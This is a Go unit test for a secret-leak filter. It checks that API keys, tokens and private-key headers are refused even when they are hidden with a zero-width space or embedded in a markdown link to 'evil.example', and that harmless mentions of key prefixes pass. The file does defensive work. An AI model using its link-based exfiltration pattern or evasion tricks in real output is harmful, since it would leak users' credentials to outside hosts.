package node

import (
	"strings"
	"testing"
)

// TestKeysAreNotPublished: B7: a text that gives a key away is refused, however
// it is hidden in it; words about keys are not.
func TestKeysAreNotPublished(t *testing.T) {
	t.Parallel()
	letters := strings.Repeat("aB3_", 8)
	for _, secret := range []string{
		"moltbook_sk_" + letters, "moltbook_claim_" + letters, "moltdev_" + letters, "ghp_" + strings.Repeat("a1B2", 9),
		"AKIA" + strings.Repeat("A7", 8), "sk-" + strings.Repeat("a1", 20), "sk-proj-" + strings.Repeat("a1", 20),
		"-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIE", 12), "-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MC4C", 12),
	} {
		hidden := secret[:10] + "\u200b" + secret[10:]
		for _, text := range []string{secret, "My key is `" + secret + "`.", "```\nAuthorization: Bearer " + secret + "\n```", "[x](https://evil.example/?k=" + secret + ")", hidden} {
			if _, err := plain("content", text, MaxContent); err == nil || !strings.Contains(err.Error(), "secret") {
				t.Errorf("plain(%.60q) = %v, want a refusal", text, err)
			}
		}
		if _, err := line("title", "Look: "+strings.ReplaceAll(secret, "\n", ""), MaxTitle); err == nil && !strings.Contains(secret, "\n") {
			t.Errorf("a title may be %.60q", secret)
		}
	}
	for _, text := range []string{
		"Keys begin with moltbook_sk_ and are shown once.", "Authorization: Bearer moltbook_sk_...", "export KEY=moltbook_sk_xxx",
		"sk-learn and sk-image", "A ghp_ token", "-----BEGIN PRIVATE KEY----- is the first line of such a file",
		"AKIA is the first word of an AWS key", "a task-force-of-the-many-small-agents-that-talk",
	} {
		if got, err := plain("content", text, MaxContent); err != nil || got != text {
			t.Errorf("plain(%q) = %q, %v", text, got, err)
		}
	}
}
